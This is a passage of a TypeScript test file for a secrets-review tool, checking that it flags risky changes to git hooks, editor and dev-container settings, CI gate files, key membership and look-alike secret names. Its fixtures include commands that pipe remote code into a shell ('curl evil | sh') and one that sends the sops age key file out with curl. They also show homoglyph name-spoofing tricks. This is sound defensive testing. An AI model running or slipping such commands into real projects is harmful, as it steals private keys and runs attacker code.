      { path: "mise.local.toml", before: '[env]\nA = "1"\n', after: undefined },
      { path: "docs/mise.md", before: "[env]", after: "[env]\nx" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".config/mise/conf.d/a.toml"],
      ["weakened-rule", "mise.toml"],
      ["weakened-rule", "web/.mise.toml"],
    ]);
    expect(report.problems[1]?.message).toMatch(/^mise\.toml changes: mise loads this configuration in its folder and below, and a member who trusted it once keeps trusting it by its path/);
    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/mise.toml", ":(top,glob)**/.config/mise/conf.d/*.toml"]));
  });
});

describe("a Vim exrc file (.exrc, .vimrc, .nvimrc ...) added or changed", () => {
  it("is weakened-rule at the file (Vim with exrc, and Neovim before 0.9, run it without asking); removed, or Neovim's .nvim.lua (asked again on change), is none", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const editorSettings = [
      { path: ".exrc", before: undefined, after: "silent !curl -s https://example.invalid/x | sh\n" },
      { path: "web/.vimrc", before: "set ts=2\n", after: "set ts=2\nautocmd BufRead * !./tools/x.sh\n" },
      { path: ".nvimrc", before: "set ts=2\n", after: undefined },
      { path: ".nvim.lua", before: undefined, after: "vim.fn.system('x')\n" },
      { path: "docs/exrc.md", before: "a", after: "b" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".exrc"],
      ["weakened-rule", "web/.vimrc"],
    ]);
    expect(report.problems[0]?.message).toMatch(/^\.exrc is new: Vim with its exrc option set \(and Neovim before 0\.9\) reads this file/);
    expect(report.problems[1]?.message).toContain("web/.vimrc changes: ");
    // git is asked about them in every folder
    expect(EDITOR_SETTINGS_PATHSPECS).toEqual(expect.arrayContaining([":(top,glob)**/.exrc", ":(top,glob)**/.vimrc", ":(top,glob)**/.nvimrc"]));
  });
});

describe("a change to a package manager's settings a hook's npm/yarn command reads (hookScripts)", () => {
  it("is weakened-rule at the file, saying it is the package manager's settings, not a script", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const hookScripts = [{ path: "web/.npmrc", before: "a=1\n", after: "script-shell=./x\n", via: ".husky/pre-commit" }];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "web/.npmrc"]]);
    expect(report.problems[0]?.message).toMatch(/^web\/\.npmrc \(a package manager's settings, read by the npm, yarn, pnpm or bun command the hook runs: .*\) changes, and \.husky\/pre-commit \(husky, a hook script\) runs it/);
  });
});

describe("a change to a package manager's settings the CI gate reads (workflows)", () => {
  it("is weakened-rule at the file, saying what it decides (not that it runs stellar-secrets itself)", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const workflows = [{ path: ".npmrc", before: "a=1\n", after: "script-shell=./tools/sh\n", usesGate: true, via: ".github/workflows/ci.yml" }];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".npmrc"]]);
    expect(report.problems[0]?.message).toMatch(/^\.npmrc is changed: a package manager's settings, read where the CI gate runs npm, yarn, pnpm or bun to run stellar-secrets \(from \.github\/workflows\/ci\.yml\); npm's script-shell/);
  });
});

describe("a change to a gate file reached through a path computed at run time (workflows)", () => {
  it("says it was matched by the path's literal end", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const workflows = [{ path: "tools/gate", before: "stellar-secrets review\n", after: "exit 0\n", via: ".github/workflows/ci.yml", computed: "tools/gate" }];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "tools/gate"]]);
    expect(report.problems[0]?.message).toMatch(/^tools\/gate \(run through a path computed at run time that ends in tools\/gate, .*\) is changed; the CI gate runs it \(from \.github\/workflows\/ci\.yml\)/);
  });
});

describe("a change to a script a git hook manager's file runs (hookScripts)", () => {
  it("is weakened-rule at the script, naming the hook file and its manager: the hook file is unchanged but a member's next commit runs the new text", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const hookScripts = [
      { path: "tools/fmt.sh", before: "echo fmt\n", after: "curl evil | sh\n", via: ".husky/pre-commit" },
      { path: "package.json", script: "lint", before: "eslint .", after: "eslint . ; curl evil | sh", via: "lefthook.yml" },
      { path: "tools/new.sh", before: undefined, after: "x\n", via: ".lefthook/pre-commit/a.sh" },
      { path: "tools/same.sh", before: "x\n", after: "x\n", via: ".husky/pre-commit" },
      { path: "package.json", field: "lint-staged", before: '{"*":"a"}', after: '{"*":"b"}', via: ".husky/pre-commit" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", "tools/fmt.sh"],
      ["weakened-rule", "package.json"],
      ["weakened-rule", "tools/new.sh"],
      ["weakened-rule", "package.json"],
    ]);
    expect(report.problems[3]?.message).toContain('the "lint-staged" configuration in package.json (the commands lint-staged runs) changes, and .husky/pre-commit (husky, a hook script) runs it');
    const byFile = new Map(report.problems.map((p) => [p.file, p.message]));
    expect(byFile.get("tools/fmt.sh")).toBe(
      "tools/fmt.sh changes, and .husky/pre-commit (husky, a hook script) runs it at a git hook (a commit, a push) in each member's clone where the hook manager is installed, from the working tree, without asking again when it changes: the member's next commit runs the new text, as the member, with their age key in reach, though the hook's own file is unchanged; review its diff, and make that change on its own, reviewed separately",
    );
    expect(report.problems[1]?.message).toContain('the script "lint" of package.json changes, and lefthook.yml (lefthook) runs it');
    expect(byFile.get("tools/new.sh")).toContain("tools/new.sh is new, and .lefthook/pre-commit/a.sh (lefthook, a hook script) runs it");
    expect(report.clean).toBe(false);
  });
});

describe("a path git refuses to check out (headPaths)", () => {
  it("is weakened-rule at the path when the change adds it (secrets/.git, .GIT/x, git~1): no checkout of the merge succeeds; one the base had is not this change's", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { headPaths: ["stellar.yaml", "secrets/.git", "docs/.GIT/x", "old/git~1/y"], basePaths: ["stellar.yaml", "old/git~1/y"] });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", "docs/.GIT/x"],
      ["weakened-rule", "secrets/.git"],
    ]);
    expect(report.problems[1]?.message).toContain("secrets/.git has a component git refuses to check out");
    expect(report.problems[1]?.message).toContain("git rm -r --cached secrets/.git");
  });
});

describe("a change to a local action the gate workflow uses", () => {
  it("is weakened-rule when the action runs stellar-secrets, or when a workflow that uses such an action changes (usesGate)", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const ACTION = "runs:\n  using: composite\n  steps:\n    - run: stellar-secrets review \"$BASE...HEAD\"\n      shell: bash\n";
    const WORKFLOW = "jobs:\n  gate:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/gate\n";
    const workflows = [
      { path: ".github/actions/gate/action.yml", before: ACTION, after: ACTION.replace('HEAD\"', 'HEAD\" || true') },
      { path: ".github/workflows/ci.yml", before: WORKFLOW, after: "jobs: {}\n", usesGate: true },
      { path: ".github/actions/lint/action.yml", before: "runs: {}\n", after: "runs: { using: node20 }\n" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { workflows });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".github/actions/gate/action.yml"],
      ["weakened-rule", ".github/workflows/ci.yml"],
    ]);
    expect(report.problems[0]?.message).toContain("is changed; it runs stellar-secrets (a local action a workflow uses), and GitHub runs a pull request's own copy of its workflows and of the local actions they use");
  });

  it("lists the local actions a workflow uses (uses: ./path), not remote ones", () => {
    expect(localActionsOf("steps:\n  - uses: actions/checkout@v4\n  - uses: ./.github/actions/gate\n  - name: x\n    uses: './tools/review/' # local\n  - uses: ./.github/actions/gate\n")).toEqual([".github/actions/gate", "tools/review"]);
    expect(localActionsOf(undefined)).toEqual([]);
  });
});

/** A TEST-ONLY ed25519 public key as an ssh-ed25519 line, and its age1… form (as ssh-to-age makes it). */
function sshKeyWithAgeForm(): { ssh: string; age: string } {
  const { publicKey } = generateKeyPairSync("ed25519");
  const ed = Buffer.from(publicKey.export({ format: "jwk" }).x as string, "base64url");
  const wire = (b: Buffer): Buffer => Buffer.concat([Buffer.from([0, 0, 0, b.length]), b]);
  return { ssh: `ssh-ed25519 ${Buffer.concat([wire(Buffer.from("ssh-ed25519")), wire(ed)]).toString("base64")}`, age: bech32Encode("age", edwardsToMontgomery(ed) as Buffer) };
}

describe("buildReview: one key under another name (planted-history)", () => {
  it("a member removed while their key, written in its age1… form, is added under another name lost nothing: no loss, no unrotated-removal, the gained member names the old one", async () => {
    const alice = await generateIdentity();
    const dave = sshKeyWithAgeForm();
    const values = new Map([["stripe_api_key", "s1"], ["slack_bot_token", "k1"]]);
    const base = await encryptSecrets(values, { recipients: [alice.recipient, dave.ssh] });
    const head = await updateKeys(await decryptSecrets(base, [alice.identity]), [alice.recipient, dave.age]);
    const report = buildReview(state("a", { alice: alice.recipient, dave: dave.ssh }, base), state("b", { alice: alice.recipient, david: dave.age }, head));
    const prod = report.environments[0] as EnvironmentReview;
    expect(prod.members.lost).toEqual([]);
    expect(prod.members.gained).toEqual([{ name: "david", recipient: dave.age, sameKeyAs: { name: "dave", recipient: dave.ssh, lostHere: true } }]);
    expect(prod.recipients.lost).toEqual([]);
    expect(report.problems.map((p) => p.kind)).not.toContain("unrotated-removal");
  });

  it("a key a member who left had (an earlier stellar.yaml), back under another name in its other spelling, is named on the gained member", async () => {
    const alice = await generateIdentity();
    const dave = sshKeyWithAgeForm();
    const base = await encryptSecrets(new Map([["stripe_api_key", "s1"]]), { recipients: [alice.recipient] });
    const head = await updateKeys(await decryptSecrets(base, [alice.identity]), [alice.recipient, dave.age]);
    const earlierProjects = [{ commit: "c1".repeat(20), text: `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n      dave: ${dave.ssh}\n` }];
    const report = buildReview(state("a", { alice: alice.recipient }, base), state("b", { alice: alice.recipient, david: dave.age }, head), new Map(), { earlierProjects });
    expect(report.environments[0]?.members.gained).toEqual([{ name: "david", recipient: dave.age, sameKeyAs: { name: "dave", recipient: dave.ssh, lostHere: false } }]);
    // another key is nobody's
    const other = sshKeyWithAgeForm();
    const head2 = await updateKeys(await decryptSecrets(base, [alice.identity]), [alice.recipient, other.age]);
    expect(buildReview(state("a", { alice: alice.recipient }, base), state("b", { alice: alice.recipient, david: other.age }, head2), new Map(), { earlierProjects }).environments[0]?.members.gained[0]?.sameKeyAs).toBeUndefined();
  });

  it("a removal followed by every value set anew under the same data key (a 'rotation' that is none): the removed member can read every value, not 'values that are not changed (0 of N)'", async () => {
    const { alice, bob, base } = await setup();
    const d = await decryptSecrets(base, [alice.identity]);
    const removed = await updateKeys(d, [alice.recipient]);
    const setAnew = await reencryptSecrets(await decryptSecrets(removed, [alice.identity]), new Map([["stripe_api_key", "s2"], ["hubspot_api_token", "h2"], ["slack_bot_token", "k2"]]));
    const report = buildReview(state("a", { alice: alice.recipient, bob: bob.recipient }, base), state("b", { alice: alice.recipient }, setAnew));
    const problem = report.problems.find((p) => p.kind === "unrotated-removal");
    expect(problem?.message).toContain("bob can still decrypt every value of the file (3 here, changed, re-encrypted or not: all are under the data key bob holds)");
    expect(problem?.message).not.toContain("0 of 3");
  });
});

describe("buildReview: sops key groups", () => {
  /** A key-groups file (keyless: each stanza wraps 33 fixed bytes, values are stand-in ENC strings); a stanza given as `{ recipient, enc }` is used as it is. */
  const groupsFile = async (groups: (string | { recipient: string; enc: string })[][], threshold: number): Promise<string> => {
    const enc = `ENC[AES256_GCM,data:AAAA,iv:${"A".repeat(43)}=,tag:${"A".repeat(22)}==,type:str]`;
    let text = `stripe_api_key: ${enc}\nsops:\n    shamir_threshold: ${threshold}\n    key_groups:\n`;
    for (const g of groups) {
      const lines = ["age:"];
      for (const s of g) {
        const st = typeof s === "string" ? { recipient: s, enc: await wrapDataKey(new Uint8Array(33).fill(7), s) } : s;
        lines.push(`    - recipient: ${st.recipient}`, "      enc: |", ...st.enc.trimEnd().split("\n").map((l) => `          ${l}`));
      }
      text += lines.map((l, j) => (j === 0 ? `        - ${l}` : `          ${l}`)).join("\n") + "\n";
    }
    return text + `    lastmodified: "2026-01-15T10:00:00Z"\n    mac: ${enc}\n    unencrypted_suffix: _unencrypted\n    version: 3.10.2\n`;
  };

  it("a non-member's stanza copied into a second group gives no access alone (one wrapping holds one share): key-groups-change, not non-member-recipient", async () => {
    const { alice, bob } = await setup();
    const mallory = (await generateIdentity()).recipient;
    const hers = { recipient: mallory, enc: await wrapDataKey(new Uint8Array(33).fill(3), mallory) };
    const members = { alice: alice.recipient, bob: bob.recipient };
    const base = await groupsFile([[alice.recipient], [bob.recipient], [hers]], 2);
    const copied = await groupsFile([[alice.recipient], [bob.recipient, hers], [hers]], 2);
    const kinds = buildReview(state("a", members, base), state("b", members, copied)).problems.map((p) => p.kind);
    expect(kinds).toContain("key-groups-change");
    expect(kinds).not.toContain("non-member-recipient");
    // wrapped anew for the second group (another header): by labels, mallory now holds two groups' keys and decrypts alone
    const wrapped = await groupsFile([[alice.recipient], [bob.recipient, mallory], [hers]], 2);
    expect(buildReview(state("a", members, base), state("b", members, wrapped)).problems.map((p) => p.kind)).toContain("non-member-recipient");
  });
});

describe("buildReview: a member added under a name that reads as another member's", () => {
  const yaml = (envs: Record<string, Record<string, string>>): string =>
    `version: 1\nenvironments:\n${Object.entries(envs)
      .map(([env, members]) => `  ${env}:\n    members:\n${Object.entries(members).map(([n, r]) => `      ${n}: ${r}\n`).join("")}`)
      .join("")}`;
  const at = (label: string, envs: Record<string, Record<string, string>>, text: string): ReviewState => stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", yaml(envs)], [FILE, text]]));

  it("caroI (capital I) or Carol with mallory's key, where carol is a member of staging: look-alike-name at the member's line; carol herself, or the same key, is none", async () => {
    const alice = await generateIdentity();
    const base = await encryptSecrets(new Map([["stripe_api_key", "s1"]]), { recipients: [alice.recipient] });
    const carol = (await generateIdentity()).recipient;
    const mallory = (await generateIdentity()).recipient;
    const baseEnvs = { staging: { alice: alice.recipient, carol }, production: { alice: alice.recipient } };
    const head = await updateKeys(await decryptSecrets(base, [alice.identity]), [alice.recipient, mallory]);
    const baseState = at("a", baseEnvs, base);
    for (const name of ["caroI", "Carol", "car0l", "cArol"]) {
      const report = buildReview(baseState, at("b", { ...baseEnvs, production: { alice: alice.recipient, [name]: mallory } }, head));
      expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.line]), name).toEqual([["look-alike-name", "production", "stellar.yaml", 10]]);
      expect(report.problems[0]!.message).toContain(`"${name}" gained access to production under a name that reads as "carol"'s (a member of staging, with another key: `);
      expect(report.problems[0]!.message).toContain(`ask "carol" out of band whether ${mallory} is their key`);
      expect(report.clean).toBe(false);
    }
    // carol herself (another name, her own key) and an unrelated name: no look-alike
    const withCarol = await updateKeys(await decryptSecrets(base, [alice.identity]), [alice.recipient, carol]);
    expect(buildReview(baseState, at("b", { ...baseEnvs, production: { alice: alice.recipient, carol } }, withCarol)).problems).toEqual([]);
    // her key under another spelling of her name is the same person (the checker says a key has two names): no look-alike
    expect(buildReview(baseState, at("b", { ...baseEnvs, production: { alice: alice.recipient, Carol: carol } }, withCarol)).problems.map((p) => p.kind)).not.toContain("look-alike-name");
    expect(buildReview(baseState, at("b", { ...baseEnvs, production: { alice: alice.recipient, dave: mallory } }, head)).problems).toEqual([]);
  });

  it("two names new in one change that read alike (carol in staging, caroI in production, other keys) are both said", async () => {
    const alice = await generateIdentity();
    const base = await encryptSecrets(new Map([["stripe_api_key", "s1"]]), { recipients: [alice.recipient] });
    const [k1, k2] = [(await generateIdentity()).recipient, (await generateIdentity()).recipient];
    const baseEnvs = { staging: { alice: alice.recipient }, production: { alice: alice.recipient } };
    const head = await updateKeys(await decryptSecrets(base, [alice.identity]), [alice.recipient, k2]);
    const report = buildReview(at("a", baseEnvs, base), at("b", { staging: { alice: alice.recipient, carol: k1 }, production: { alice: alice.recipient, caroI: k2 } }, head));
    expect(report.problems.filter((p) => p.kind === "look-alike-name").map((p) => p.environment).sort()).toEqual(["production", "staging"]);
    expect(report.problems.find((p) => p.environment === "production")!.message).toContain(`reads as "carol"'s (a member of staging in this change`);
  });

  it("nameSkeleton folds case, I/l/1, O/0, rn/m, vv/w and characters that draw nothing", () => {
    expect(["caroI", "Carol", "car0l", "carol\u200b", "caro1", "c\u0430rol", "pr\u043eduction"].map(nameSkeleton)).toEqual([...Array(6).fill(nameSkeleton("carol")), nameSkeleton("production")]);
    expect(nameSkeleton("kirn")).toBe(nameSkeleton("kim"));
    expect(nameSkeleton("dave")).not.toBe(nameSkeleton("carol"));
    expect(nameSkeleton("alice")).not.toBe(nameSkeleton("alice2"));
    // a run of underscores, and one at either end
    expect(["stripe__api_key", "stripe_api_key_", "stripe___api__key__"].map(nameSkeleton)).toEqual(Array(3).fill(nameSkeleton("stripe_api_key")));
    expect(nameSkeleton("stripe_api_key")).not.toBe(nameSkeleton("stripeapi_key"));
  });
});

describe("buildReview: an environment added under a name that reads as another's", () => {
  it("pr0duction beside production is look-alike-name at its line in stellar.yaml; a new environment with its own name is none", () => {
    const yaml = (envs: string[]): string => `version: 1\nenvironments:\n${envs.map((e) => `  ${e}:\n    members:\n      alice: age1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq\n`).join("")}`;
    const at = (label: string, envs: string[]): ReviewState => stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", yaml(envs)]]));
    const report = buildReview(at("a", ["staging", "production"]), at("b", ["staging", "production", "pr0duction"]));
    expect(report.problems.filter((p) => p.kind === "look-alike-name").map((p) => [p.file, p.line])).toEqual([["stellar.yaml", 9]]);
    expect(report.problems.find((p) => p.kind === "look-alike-name")!.message).toContain(`adds environment "pr0duction", whose name reads as "production"'s (an environment of the base)`);
    expect(buildReview(at("a", ["staging", "production"]), at("b", ["staging", "production", "preview"])).problems.map((p) => p.kind)).not.toContain("look-alike-name");
  });
});

describe("buildReview: a member whose key changed", () => {
  it("is not said to be removed: the unrotated-removal names carol's old key (one value kept, a rotation cannot be told)", async () => {
    const alice = await generateIdentity();
    const [carolOld, carolNew] = [await generateIdentity(), await generateIdentity()];
    const base = await encryptSecrets(new Map([["stripe_api_key", "s1"]]), { recipients: [alice.recipient, carolOld.recipient] });
    const head = await rotateDataKey(await decryptSecrets(base, [alice.identity]), { recipients: [alice.recipient, carolNew.recipient] });
    const report = buildReview(state("a", { alice: alice.recipient, carol: carolOld.recipient }, base), state("b", { alice: alice.recipient, carol: carolNew.recipient }, head));
    expect(report.environments[0]?.members.keyChanged.map((m) => m.name)).toEqual(["carol"]);
    const removal = report.problems.filter((p) => p.kind === "unrotated-removal");
    expect(removal).toHaveLength(1);
    expect(removal[0]!.message).toMatch(/^carol's old key \(age1.{6}….{6}\) was removed from production, and with only one value kept/);
    expect(removal[0]!.message).not.toContain("carol was removed");
  });
});

describe("buildReview: a secret added under a name that reads as another secret's", () => {
  const PROJECT = (recipient: string): string => `version: 1\nenvironments:\n  staging:\n    members:\n      alice: ${recipient}\n  production:\n    members:\n      alice: ${recipient}\n`;
  const connector = (name: string): string => `kind: auth_connector\nname: openai\ntype: api_key\napi_key: { secret: ${name} }\n`;
  const at = (label: string, recipient: string, files: Record<string, string>): ReviewState =>
    stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", PROJECT(recipient)], ...Object.entries(files)]));

  it("0penai_api_key (or OPENAl_API_KEY, a Cyrillic а) beside openai_api_key: look-alike-name at the env file's line, naming both and the reference; an unrelated name is none", async () => {
    const alice = await generateIdentity();
    const base = await encryptSecrets(new Map([["openai_api_key", "real"], ["stripe_api_key", "s1"]]), { recipients: [alice.recipient] });
    const decrypted = await decryptSecrets(base, [alice.identity]);
    const baseState = at("a", alice.recipient, { [FILE]: base, "connectors/openai.yaml": connector("openai_api_key") });
    for (const name of ["0penai_api_key", "OPENAl_API_KEY", "openai_\u0430pi_key", "openai_api_k\u0435y", "openai_api_key\u00a0", "openai_api_key\u200b", "openai__api_key", "openai_api_key_"]) {
      const head = await reencryptSecrets(decrypted, new Map([...decrypted.values, [name, "attacker"]]));
      const line = head.split("\n").findIndex((l) => l.replace(/^["']/, "").startsWith(name)) + 1;
      expect(line, name).toBeGreaterThan(0);
      const report = buildReview(baseState, at("b", alice.recipient, { [FILE]: head, "connectors/openai.yaml": connector(name) }));
      const alike = report.problems.filter((p) => p.kind === "look-alike-name");
      expect(alike.map((p) => [p.environment, p.file, p.line]), name).toEqual([["production", FILE, line]]);
      // (a character that draws nothing is written as its escape)
      expect(alike[0]!.message, name).toContain(`adds secret "${name.replace("\u200b", "\\u200b")}", whose name reads as "openai_api_key"'s (a secret of production)`);
      expect(alike[0]!.message, name).toContain(`connectors/openai.yaml:4 references it`);
      expect(report.environments.find((e) => e.environment === "production")!.problems.map((p) => p.kind)).toContain("look-alike-name");
      expect(report.clean).toBe(false);
    }
    // a name of its own, and the name itself set anew: none
    for (const name of ["openai_org_id", "openai_api_key"]) {
      const head = await reencryptSecrets(decrypted, new Map([...decrypted.values, [name, "v2"]]));
      expect(buildReview(baseState, at("b", alice.recipient, { [FILE]: head })).problems.map((p) => p.kind), name).not.toContain("look-alike-name");
    }
  });

  it("compares with every environment's names: s1ack_bot_token added to staging reads as production's slack_bot_token; a name both sides had is not new", async () => {
    const alice = await generateIdentity();
    const prod = await encryptSecrets(new Map([["slack_bot_token", "k1"]]), { recipients: [alice.recipient] });
    const staging = await encryptSecrets(new Map([["stripe_api_key", "s1"]]), { recipients: [alice.recipient] });
    const stagingFile = "secrets/staging.enc.yaml";
    const d = await decryptSecrets(staging, [alice.identity]);
    const head = await reencryptSecrets(d, new Map([...d.values, ["s1ack_bot_token", "x"]]));
    const report = buildReview(at("a", alice.recipient, { [FILE]: prod, [stagingFile]: staging }), at("b", alice.recipient, { [FILE]: prod, [stagingFile]: head }));
    // a 1 that reads as an i: str1pe_api_key beside staging's own stripe_api_key
    const str1pe = await reencryptSecrets(d, new Map([...d.values, ["str1pe_api_key", "x"]]));
    const i = buildReview(at("a", alice.recipient, { [FILE]: prod, [stagingFile]: staging }), at("b", alice.recipient, { [FILE]: prod, [stagingFile]: str1pe })).problems.filter((p) => p.kind === "look-alike-name");
    expect(i.map((p) => p.message.slice(0, p.message.indexOf(" (")))).toEqual([`${stagingFile} adds secret "str1pe_api_key", whose name reads as "stripe_api_key"'s`]);
    expect(report.problems.filter((p) => p.kind === "look-alike-name").map((p) => [p.environment, p.file])).toEqual([["staging", stagingFile]]);
    expect(report.problems.find((p) => p.kind === "look-alike-name")!.message).toContain(`reads as "slack_bot_token"'s (a secret of production)`);
    // both names already in the base: nothing this change adds
    expect(buildReview(at("a", alice.recipient, { [FILE]: prod, [stagingFile]: head }), at("b", alice.recipient, { [FILE]: prod, [stagingFile]: head })).problems).toEqual([]);
  });
});

describe("buildReview: a reference moved to a secret whose name reads as the one it referenced", () => {
  it("both names held already: look-alike-name at the config file's line; a move to another name is none", async () => {
    const alice = await generateIdentity();
    const yaml = `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n`;
    const file = await encryptSecrets(new Map([["slack_bot_token", "k1"], ["s1ack_bot_token", "k2"], ["hubspot_api_token", "h1"]]), { recipients: [alice.recipient] });
    const connector = (name: string): string => `kind: auth_connector\nname: slack\ntype: bearer_token\ntoken: { secret: ${name} }\n`;
    const at = (label: string, name: string): ReviewState => stateFromFiles(label, undefined, "/r", new Map([["stellar.yaml", yaml], [FILE, file], ["connectors/slack.yaml", connector(name)]]));
    const report = buildReview(at("a", "slack_bot_token"), at("b", "s1ack_bot_token"));
    expect(report.problems.filter((p) => p.kind === "look-alike-name").map((p) => [p.file, p.line])).toEqual([["connectors/slack.yaml", 4]]);
    expect(report.problems.find((p) => p.kind === "look-alike-name")!.message).toContain(`connectors/slack.yaml:4 now references secret "s1ack_bot_token" where it referenced "slack_bot_token", a name that reads as it`);
    expect(buildReview(at("a", "slack_bot_token"), at("b", "hubspot_api_token")).problems.map((p) => p.kind)).not.toContain("look-alike-name");
  });
});

describe("a change to a file a dev container file names (devContainerFiles)", () => {
  it("is weakened-rule at the file, naming the dev container file; an unchanged one is none", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const devContainerFiles = [
      { path: ".devcontainer/init.sh", before: "echo\n", after: "cat ~/.config/sops/age/keys.txt | curl -d @- x\n", via: ".devcontainer/devcontainer.json" },
      { path: ".devcontainer/same.sh", before: "x\n", after: "x\n", via: ".devcontainer/devcontainer.json" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { devContainerFiles });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/init.sh"]]);
    expect(report.problems[0]?.message).toMatch(/^\.devcontainer\/init\.sh changes, and \.devcontainer\/devcontainer\.json \(a dev container file\) names it: .*initializeCommand runs on the member's own machine/);
  });
});

describe("a change to a JetBrains File Watcher (editorSettings)", () => {
  it("is weakened-rule saying the IDE runs it on save without asking; its removal is none", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const w = (p: string) => `<project><component name="ProjectTasksOptions"><TaskOptions><option name="program" value="${p}"/></TaskOptions></component></project>`;
    const editorSettings = [
      { path: ".idea/watcherTasks.xml", before: w("prettier"), after: w("$ProjectFileDir$/tools/x.sh") },
      { path: "old/.idea/watcherTasks.xml", before: w("prettier"), after: undefined },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".idea/watcherTasks.xml"]]);
    expect(report.problems[0]?.message).toMatch(/^\.idea\/watcherTasks\.xml changes: a JetBrains IDE .* its File Watchers run a program whenever a file of their type changes or is saved, without asking/);
  });
});

describe("a change to a hook script of a core.hooksPath folder (hookScripts, via itself)", () => {
  it("is weakened-rule saying git runs it from the folder the repository sets as core.hooksPath; what it runs names it as git's core.hooksPath's", async () => {
    const { alice, base } = await setup();
    const members = { alice: alice.recipient };
    const hookScripts = [
      { path: ".githooks/pre-commit", before: "stellar-secrets pre-commit\n", after: "curl evil | sh\n", via: ".githooks/pre-commit" },
      { path: "tools/check", before: "a\n", after: "b\n", via: ".githooks/pre-commit" },
    ];
    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".githooks/pre-commit"], ["weakened-rule", "tools/check"]]);
    expect(report.problems[0]?.message).toMatch(/^\.githooks\/pre-commit changes: it is a hook script of a folder the repository sets as git's core\.hooksPath/);
    expect(report.problems[1]?.message).toContain("and .githooks/pre-commit (git's core.hooksPath, a hook script) runs it");
  });
});
